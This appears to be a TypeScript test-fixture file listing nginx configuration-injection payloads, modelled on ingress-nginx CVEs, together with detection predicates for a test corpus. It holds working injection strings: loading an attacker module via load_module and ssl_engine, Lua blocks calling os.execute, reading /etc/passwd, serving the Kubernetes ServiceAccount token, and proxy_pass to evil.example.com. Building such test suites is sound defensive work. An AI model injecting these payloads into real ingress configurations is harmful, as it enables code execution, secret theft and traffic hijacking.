// Hostile payloads, each appended to (or standing in for) the benign value of the field it goes
// into, so the value still looks like one of its kind up to the injected part. Sources: the
// ingress-nginx config-injection CVEs (reference §3.3): IngressNightmare's `ssl_engine`/`load_module`
// (CVE-2025-1974/24514/1097/1098), snippet and path injection (CVE-2021-25742/25745/25746,
// CVE-2023-5043/5044, CVE-2026-24512), plus the tokenizer's own edges (ConfLexer).

export interface Payload {
  note: string;
  make: (base: string) => string;
}

const SO = 'load_module /tmp/x.so;';
const LONG = 'a'.repeat(10_050);

export const PAYLOADS = {
  'semicolon-load-module': { note: `ends the directive, then ${SO} (IngressNightmare's second stage)`, make: (b) => `${b};${SO}` },
  'semicolon-ssl-engine': { note: 'ssl_engine loads an attacker .so as an OpenSSL engine (CVE-2025-1974)', make: (b) => `${b}; ssl_engine /tmp/x.so;` },
  'dquote-breakout': { note: 'closes a "…" argument the renderer opened (CVE-2025-24514 auth-url)', make: (b) => `${b}"; ssl_engine /tmp/x.so; #` },
  'squote-breakout': { note: "closes a '…' argument", make: (b) => `${b}'; ssl_engine /tmp/x.so; #` },
  'backslash-dquote': { note: 'a renderer that escapes " but not \\ lets \\" close the string (CVE-2026-24512 fix escapes both)', make: (b) => `${b}\\"; include /etc/passwd; #` },
  'trailing-backslash': { note: 'a trailing backslash escapes the closing quote and swallows what follows', make: (b) => `${b}\\` },
  'newline-braces': { note: 'CVE-2025-1098 UID shape: comment, newline, close every block, load a module', make: (b) => `${b}#;\n\n}\n}\n}\n${SO}\n` },
  'cr-include': { note: 'CR LF instead of LF; nginx treats CR as whitespace', make: (b) => `${b}\r\ninclude /etc/passwd;\r\n` },
  'lf-root': { note: 'newline then a whole directive', make: (b) => `${b}\nroot /;\n` },
  'nul-truncation': { note: 'NUL: C string functions stop there, length-based ones do not', make: (b) => `${b}\u0000;${SO}` },
  'lua-block': { note: 'a Lua block whose body nginx never tokenizes', make: (b) => `${b}";content_by_lua_block {os.execute("id")} #` },
  'location-lua-block': { note: 'closes the location and opens one running Lua', make: (b) => `${b} { content_by_lua_block {os.execute("id")} } location /x {` },
  'access-by-lua': { note: 'access_by_lua with inline code', make: (b) => `${b}; access_by_lua 'os.execute("id")';` },
  'njs': { note: 'njs: js_import + js_content', make: (b) => `${b}; js_import /tmp/x.js; js_content x.run;` },
  'alias-serviceaccount': { note: 'serves the ServiceAccount token (CVE-2021-25745)', make: (b) => `${b}; alias /var/run/secrets/kubernetes.io/serviceaccount/;` },
  'root-slash': { note: 'closes the block and serves the filesystem', make: (b) => `${b}}\nlocation /leak { root /; }\nlocation /x {` },
  'proxy-pass-evil': { note: 'sends traffic elsewhere', make: (b) => `${b}; proxy_pass http://evil.example.com;` },
  'close-brace': { note: 'a lone } closes the enclosing block', make: (b) => `${b}}` },
  'open-brace': { note: 'a lone { opens a block', make: (b) => `${b}{` },
  'variable': { note: '$var: nginx interpolates variables, quoted or not', make: (b) => `${b}$host$request_uri` },
  'dollar-brace': { note: '${var}: `{` right after `$` does not open a block', make: (b) => `${b}\${ssl_client_raw_cert}` },
  'hash-comment': { note: '# at a token start comments out the rest of the line', make: (b) => `${b} # }` },
  'backtick': { note: 'shell command substitution, for renderers that shell out', make: (b) => `${b}\`id\`` },
  'percent-newline': { note: 'percent-encoded newline and brace, for renderers that URL-decode', make: (b) => `${b}%0a}%0aload_module%20/tmp/x.so;` },
  'percent-brace': { note: 'percent-encoded { } ; " \' \\', make: (b) => `${b}%7b%7d%3b%22%27%5c` },
  'fullwidth': { note: 'fullwidth ； ＂ ｛: NFKC turns them into ASCII ; " {', make: (b) => `${b}；load_module /tmp/x.so；＂｛` },
  'greek-question-mark': { note: 'U+037E looks like ; and NFKC-normalises to it', make: (b) => `${b}\u037e load_module /tmp/x.so\u037e` },
  'line-separator': { note: 'U+2028/U+2029: line breaks to JavaScript, not to nginx', make: (b) => `${b}\u2028load_module /tmp/x.so;\u2029` },
  'long': { note: 'over 10k characters', make: (b) => `${b}${LONG}` },
  'long-tail': { note: 'the injection sits past 10k characters, beyond a truncating check', make: (b) => `${b}${LONG};${SO}` },
  'regex-meta': { note: 'regex metacharacters where a regex location or pattern is built', make: (b) => `${b}(.*)|[^/]+(?i)\\d{2,}$` },
  'regex-redos': { note: 'catastrophic backtracking', make: (b) => `${b}(a+)+$` },
} satisfies Record<string, Payload>;

export type PayloadSlug = keyof typeof PAYLOADS;

/** every payload: for the fields nginx sees most directly (host, paths, the UID of CVE-2025-1098) */
export const ALL_PAYLOADS = Object.keys(PAYLOADS) as PayloadSlug[];

/** the structural breakouts, for every free-text field */
export const TEXT_PAYLOADS: PayloadSlug[] = [
  'semicolon-load-module', 'dquote-breakout', 'backslash-dquote', 'trailing-backslash', 'newline-braces', 'lua-block', 'nul-truncation',
];

/** for booleans, numbers, sizes, enums and CIDR lists: breakouts plus values a lenient parser might normalise */
export const SCALAR_PAYLOADS: PayloadSlug[] = [
  'semicolon-load-module', 'newline-braces', 'dquote-breakout', 'fullwidth', 'percent-newline',
];

/**
 * The dangerous token classes the corpus must represent, each with a test on a value. The
 * corpus test requires at least one entry per class.
 */
export const TOKEN_CLASSES: Record<string, (v: string) => boolean> = {
  'semicolon': (v) => v.includes(';'),
  'open-brace': (v) => v.includes('{'),
  'close-brace': (v) => v.includes('}'),
  'double-quote': (v) => v.includes('"'),
  'single-quote': (v) => v.includes("'"),
  'backslash': (v) => v.includes('\\'),
  'newline': (v) => v.includes('\n'),
  'carriage-return': (v) => v.includes('\r'),
  'nul': (v) => v.includes('\u0000'),
  'dollar': (v) => /\$[a-z_]/.test(v),
  'dollar-brace': (v) => v.includes('${'),
  'hash': (v) => v.includes('#'),
  'backtick': (v) => v.includes('`'),
  'load_module': (v) => v.includes('load_module /tmp/x.so;'),
  'ssl_engine': (v) => v.includes('ssl_engine'),
  'content_by_lua_block': (v) => v.includes('content_by_lua_block {os.execute("id")}'),
  'access_by_lua': (v) => v.includes('access_by_lua'),
  'js_content': (v) => v.includes('js_content'),
  'js_import': (v) => v.includes('js_import'),
  'include-passwd': (v) => v.includes('include /etc/passwd'),
  'alias-serviceaccount': (v) => v.includes('alias /var/run/secrets/kubernetes.io/serviceaccount/'),
  'root-slash': (v) => v.includes('root /;'),
  'proxy_pass-evil': (v) => v.includes('proxy_pass http://evil'),
  'unicode-lookalike': (v) => /[\uff01-\uff5e\u037e\u2028\u2029]/.test(v),
  'very-long': (v) => v.length > 10_000,
  'percent-encoded': (v) => /%0a|%7b/i.test(v),
  'regex-meta': (v) => /\(\.\*\)|\(\?|\[\^|\(a\+\)\+/.test(v),
};
